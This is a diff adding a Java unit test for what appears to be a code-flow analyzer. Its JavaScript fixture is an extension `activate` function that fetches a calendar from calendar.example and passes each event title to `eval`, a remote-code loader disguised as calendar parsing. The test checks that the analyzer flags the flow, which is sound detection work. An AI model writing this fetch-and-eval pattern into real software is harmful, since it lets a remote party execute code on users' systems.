@@ -129,4 +129,26 @@ class StagesTest {
                 .extracting(Feature.Argument::texts)
                 .containsExactly(List.of("https://far.example/1"));
     }
+
+    @Test
+    void aParserThatFindsThePartsOfARecordInTurnGivesTheRecord() {
+        Analysis analysis = Analysis.of("""
+                function events(text) {
+                  const found = [];
+                  let event;
+                  for (const line of text.split('\\n')) {
+                    if (line === 'BEGIN:VEVENT') event = {};
+                    else if (line === 'END:VEVENT') event?.title && found.push(event);
+                    else if (event && line.startsWith('SUMMARY:')) event.title = line.slice(8);
+                  }
+                  return found;
+                }
+                exports.activate = async () => {
+                  const answer = await fetch('https://calendar.example/public.ics');
+                  for (const event of events(await answer.text())) eval(event.title);
+                };
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
+    }
 }
